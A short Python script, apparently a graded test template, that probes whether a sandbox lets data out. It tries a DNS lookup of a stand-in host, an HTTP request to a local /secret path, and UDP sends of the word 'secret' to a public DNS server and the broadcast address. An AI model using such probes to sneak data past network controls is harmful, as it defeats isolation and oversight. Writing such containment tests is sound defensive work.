# tries: to send what it finds away, hidden in the name of a machine, by mail, or in a page's address
# ends: graded
import socket
import urllib.request

try:
    print("REACHED", socket.getaddrinfo("secret.example.org", 80))
except OSError:
    pass
try:
    print("REACHED", urllib.request.urlopen("http://127.0.0.1:PORT/secret", timeout=0.2).read())
except OSError:
    pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
    for address in (("127.0.0.1", PORT), ("8.8.8.8", 53), ("255.255.255.255", 9)):
        try:
            datagram.sendto(b"secret", address)
            if address[0] != "127.0.0.1":
                print("REACHED", address)
        except OSError:
            pass
